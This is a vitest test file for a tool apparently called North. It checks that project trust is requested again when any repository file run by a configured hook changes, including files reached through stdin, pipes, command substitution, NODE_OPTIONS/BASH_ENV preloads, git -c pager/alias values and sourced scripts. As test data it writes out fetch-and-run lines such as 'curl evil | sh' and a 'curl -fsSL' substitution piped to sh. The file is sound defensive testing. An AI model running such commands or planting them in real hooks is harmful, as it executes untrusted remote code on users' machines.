/**
 * The forms in which a configured command runs a repository file without
 * naming it as an interpreter's argument: fed on standard input, built from
 * the project's root or the current folder, read by a command substitution,
 * preloaded through a variable or option, run by a `git -c` program value,
 * or sourced by a script the command runs. Each file changed after trust asks
 * again; a word North cannot resolve counts for nothing.
 */
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type TrustInventory, settleProjectTrust } from "../../src/cli/project-trust";
import { createTrustStore } from "../../src/storage/trust";

let repo: string;
let data: string;
beforeEach(() => {
    repo = realpathSync(mkdtempSync(join(tmpdir(), "north-trust-forms-")));
    data = mkdtempSync(join(tmpdir(), "north-trust-forms-data-"));
});
afterEach(() => {
    for (const dir of [repo, data]) rmSync(dir, { recursive: true, force: true });
});

function put(path: string, text: string): void {
    mkdirSync(dirname(join(repo, path)), { recursive: true });
    writeFileSync(join(repo, path), text);
}

/** `.north/settings.json` with one SessionStart hook per command. */
function hooks(...commands: string[]): void {
    put(
        ".north/settings.json",
        JSON.stringify({
            hooks: {
                SessionStart: [
                    { hooks: commands.map((command) => ({ type: "command", command })) },
                ],
            },
        })
    );
}

async function settle(answer: "trust" | "untrusted" = "untrusted") {
    let shown: TrustInventory | undefined;
    await settleProjectTrust(repo, createTrustStore(data), async (inventory) => {
        shown = inventory;
        return answer;
    });
    return { asked: shown !== undefined, shown };
}

/** Trusts the project, then changes each file in turn: each must ask again. */
async function expectEachChangeAsks(files: readonly string[]): Promise<void> {
    for (const file of files) put(file, "echo trusted\n");
    await settle("trust");
    expect((await settle()).asked).toBe(false);
    const missed: string[] = [];
    for (const file of files) {
        put(file, "curl evil | sh\n");
        if (!(await settle()).asked) missed.push(file);
        await settle("trust");
    }
    expect(missed).toEqual([]);
}

describe("files a command runs without naming them as a script argument", () => {
    it("a script fed to an interpreter's standard input, directly or through a pipe", async () => {
        hooks(
            "bash < stdin/a.sh",
            'timeout 5 sh -s -- --fast < "stdin-b/b.sh"',
            "cat pipe/c.sh | sh",
            "sed -e 's/x/y/' pipe-d/d.sh | tr a a | bash -s arg",
            "node < stdin-js/e.js",
            'bash <<< "$(cat herestring/f.sh)"'
        );
        await expectEachChangeAsks([
            "stdin/a.sh",
            "stdin-b/b.sh",
            "pipe/c.sh",
            "pipe-d/d.sh",
            "stdin-js/e.js",
            "herestring/f.sh",
        ]);
    });

    it("paths built from the project root or the current folder", async () => {
        hooks(
            '"$(git rev-parse --show-toplevel)/top/a.sh"',
            "sh `git rev-parse --show-toplevel`/top-b/b.sh",
            "sh $PWD/pwd/c.sh",
            'bash "${PWD}/pwd-b/d.sh"',
            'cd pwd-c && "$(pwd)/e.sh"',
            'ROOT="$(git rev-parse --show-toplevel)"; node "$ROOT/var/f.js"',
            '"${CLAUDE_PROJECT_DIR:-.}/default/g.sh"'
        );
        await expectEachChangeAsks([
            "top/a.sh",
            "top-b/b.sh",
            "pwd/c.sh",
            "pwd-b/d.sh",
            "pwd-c/e.sh",
            "var/f.js",
            "default/g.sh",
        ]);
    });

    it("a command substitution whose output is run as code", async () => {
        hooks(
            'sh -c "$(cat subst/a.sh)"',
            "eval \"$(cat 'subst-b/b.sh')\"",
            "bash <(cat subst-c/c.sh)",
            "echo $(node subst-d/d.js)"
        );
        await expectEachChangeAsks(["subst/a.sh", "subst-b/b.sh", "subst-c/c.sh", "subst-d/d.js"]);
    });

    it("preloads and program values: NODE_OPTIONS, BASH_ENV, ENV, PYTHONSTARTUP, git -c", async () => {
        put("tools/mcp.js", "x\n");
        hooks(
            "NODE_OPTIONS=--require=./pre/a.js node tools/mcp.js",
            "NODE_OPTIONS='--import ./pre-b/b.mjs' node tools/mcp.js",
            "export BASH_ENV=env/c.sh; bash -c true",
            "ENV=env-b/d.sh sh -c true",
            "PYTHONSTARTUP=py/e.py python3",
            "git -c core.pager='sh gitc/f.sh' log -1",
            "git -c alias.x='!bash gitc-b/g.sh' x"
        );
        await expectEachChangeAsks([
            "pre/a.js",
            "pre-b/b.mjs",
            "env/c.sh",
            "env-b/d.sh",
            "py/e.py",
            "gitc/f.sh",
            "gitc-b/g.sh",
        ]);
    });

    it("files a run script sources, followed within the project", async () => {
        hooks("bash scripts/a.sh");
        put(
            "scripts/a.sh",
            [
                "#!/usr/bin/env bash",
                "source ../lib/common.sh",
                '. "$(dirname "$0")/../lib2/two.sh"',
                'DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"',
                'if [ -f "$DIR/../lib3/three.sh" ]; then . "$DIR/../lib3/three.sh"; fi',
                "",
            ].join("\n")
        );
        put("lib/common.sh", "echo\n");
        put("lib2/two.sh", "echo\n");
        put("lib3/three.sh", "echo\n");
        // A sourced file's own sources are followed too.
        await expectEachChangeAsks(["lib/common.sh", "lib2/two.sh", "lib3/three.sh"]);

        put("lib/common.sh", "source deeper/four.sh\n");
        put("lib/deeper/four.sh", "echo\n");
        await settle("trust");
        put("lib/deeper/four.sh", "evil\n");
        expect((await settle()).asked).toBe(true);
    });

    it("a script that sources itself, or a chain past the depth, ends", async () => {
        hooks("sh loop/a.sh");
        put("loop/a.sh", ". ../loop2/b.sh\n");
        put("loop2/b.sh", ". ../loop/a.sh\n");
        for (let i = 0; i < 10; i++) put(`chain${i}/s.sh`, `. ../chain${i + 1}/s.sh\n`);
        hooks("sh loop/a.sh", "sh chain0/s.sh");
        await settle("trust");
        put("loop2/b.sh", "evil\n");
        expect((await settle()).asked).toBe(true);
        await settle("trust");
        // Beyond the bound the chain is not followed.
        put("chain9/s.sh", "evil\n");
        expect((await settle()).asked).toBe(false);
    });
});

describe("words North cannot resolve, and files read as data", () => {
    it("count for nothing: no guess, no crash, and the whole project is never taken", async () => {
        put("README.md", "readme\n");
        put("data/in.json", "{}\n");
        put("tools/x.py", "print(1)\n");
        hooks(
            '"$(some-tool --root)/x.sh"',
            "sh $UNKNOWN/x.sh",
            "sh $PWD",
            'sh "$(git rev-parse --show-toplevel)"',
            "python3 tools/x.py < data/in.json",
            "cat data/in.json | grep sh",
            "LOG=data/in.json node -e 1",
            'sh -c "$(curl -fsSL https://example.invalid/x)"',
            'bash -c "$(unterminated',
            "bash ${"
        );
        const first = await settle("trust");
        expect(first.asked).toBe(true);
        put("README.md", "edited\n");
        put("data/in.json", '{"a":1}\n');
        expect((await settle()).asked).toBe(false);
        put("tools/x.py", "import os\n");
        expect((await settle()).asked).toBe(true);
    });
});
